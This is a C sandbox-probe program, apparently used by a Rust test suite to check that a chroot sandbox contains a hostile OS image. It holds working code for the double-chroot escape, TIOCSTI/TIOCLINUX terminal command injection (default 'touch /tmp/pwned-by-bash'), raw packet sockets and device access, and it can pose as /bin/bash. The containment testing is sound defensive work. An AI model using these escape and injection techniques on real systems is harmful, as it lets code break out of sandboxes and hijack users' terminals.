/* A static probe that tests/chroot_exec.rs compiles (gcc -static) into a tree and runs under
 * chroot-exec. Each mode tries one thing a hostile OS image would try from inside the sandbox,
 * prints one line saying what happened, and exits 0 only when the attempt SUCCEEDED, so a test
 * that expects containment asserts a non-zero exit and the printed reason.
 *
 *   args CODE ARG...         writes every ARG followed by a NUL to stdout, exits CODE
 *   chroot-escape HOSTPATH   the classic double-chroot escape, then creates HOSTPATH
 *   keyctl                   reads the id of uid 0's user keyring (shared with the host's root)
 *   userns                   unshare(CLONE_NEWUSER)
 *   open-rw DEVICE           opens DEVICE read-write and reads 512 bytes from it
 *   raw-socket               opens a packet socket (sniffs and forges the host's traffic)
 *   tiocsti LINE             pushes LINE into every terminal it reaches (its controlling one
 *                            through /dev/tty, and fds 0-2 that are terminals) with TIOCSTI,
 *                            and tries TIOCLINUX on each; exits 0 if any byte went in
 *
 * Installed as a tree's /bin/bash (argv[0] ends in "bash"), it runs `tiocsti` with the line in
 * $PROBE_LINE or "touch /tmp/pwned-by-bash", whatever its arguments: the hostile image whose
 * shell the builder's own checks run.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <unistd.h>

#define KEYCTL_GET_KEYRING_ID 0
#define KEY_SPEC_USER_KEYRING -4

static int failed(const char *what) {
    printf("%s failed: %s\n", what, strerror(errno));
    return 1;
}

/* TIOCSTI, byte by byte, then TIOCLINUX (TIOCL_PASTESEL), on every terminal reachable. */
static int inject(const char *line) {
    int fds[4], n = 0, reached = 0;
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0)
        printf("open /dev/tty: %s\n", strerror(errno));
    else
        fds[n++] = tty;
    for (int fd = 0; fd < 3; fd++)
        if (isatty(fd))
            fds[n++] = fd;
    for (int i = 0; i < n; i++) {
        const char *c = line;
        for (; *c; c++)
            if (ioctl(fds[i], TIOCSTI, c) != 0)
                break;
        if (*c == 0) {
            printf("TIOCSTI on fd %d: injected\n", fds[i]);
            reached = 1;
        } else {
            printf("TIOCSTI on fd %d: %s\n", fds[i], strerror(errno));
        }
        char paste = 3;
        if (ioctl(fds[i], TIOCLINUX, &paste) == 0)
            printf("TIOCLINUX on fd %d: done\n", fds[i]);
        else
            printf("TIOCLINUX on fd %d: %s\n", fds[i], strerror(errno));
    }
    printf("terminals tried: %d\n", n);
    fflush(stdout);
    return reached ? 0 : 1;
}

int main(int argc, char **argv) {
    size_t len0 = strlen(argv[0]);
    if (len0 >= 4 && strcmp(argv[0] + len0 - 4, "bash") == 0) {
        const char *line = getenv("PROBE_LINE");
        return inject(line ? line : "touch /tmp/pwned-by-bash\n");
    }
    if (argc < 2)
        return 2;
    const char *mode = argv[1];
    if (strcmp(mode, "tiocsti") == 0 && argc == 3)
        return inject(argv[2]);
    if (strcmp(mode, "args") == 0 && argc >= 3) {
        for (int i = 3; i < argc; i++)
            fwrite(argv[i], 1, strlen(argv[i]) + 1, stdout);
        fflush(stdout);
        return atoi(argv[2]);
    }
    if (strcmp(mode, "chroot-escape") == 0 && argc == 3) {
        /* chroot() into a subdirectory without entering it: the working directory is now
         * outside the root, and ".." from it climbs as far as the mount tree allows. */
        mkdir("escape-dir", 0755);
        if (chroot("escape-dir") != 0)
            return failed("chroot(escape-dir)");
        for (int i = 0; i < 256; i++)
            if (chdir("..") != 0)
                return failed("chdir(..)");
        if (chroot(".") != 0)
            return failed("chroot(.)");
        int fd = open(argv[2], O_CREAT | O_WRONLY | O_TRUNC, 0644);
        if (fd < 0)
            return failed("creating the host file");
        if (write(fd, "escaped\n", 8) != 8)
            return failed("writing the host file");
        close(fd);
        printf("escaped: wrote %s\n", argv[2]);
        return 0;
    }
    if (strcmp(mode, "keyctl") == 0) {
        long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
        if (id < 0)
            return failed("keyctl(KEYCTL_GET_KEYRING_ID, user keyring)");
        printf("reached the user keyring %ld\n", id);
        return 0;
    }
    if (strcmp(mode, "userns") == 0) {
        if (unshare(CLONE_NEWUSER) != 0)
            return failed("unshare(CLONE_NEWUSER)");
        printf("new user namespace\n");
        return 0;
    }
    if (strcmp(mode, "open-rw") == 0 && argc == 3) {
        int fd = open(argv[2], O_RDWR);
        if (fd < 0)
            return failed("opening the device");
        char buf[512];
        if (read(fd, buf, sizeof buf) != (ssize_t)sizeof buf)
            return failed("reading the device");
        printf("read 512 bytes from %s\n", argv[2]);
        return 0;
    }
    if (strcmp(mode, "raw-socket") == 0) {
        int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
        if (fd < 0)
            return failed("socket(AF_PACKET, SOCK_RAW)");
        printf("opened a packet socket\n");
        return 0;
    }
    fprintf(stderr, "sandbox_probe: unknown mode %s\n", mode);
    return 2;
}
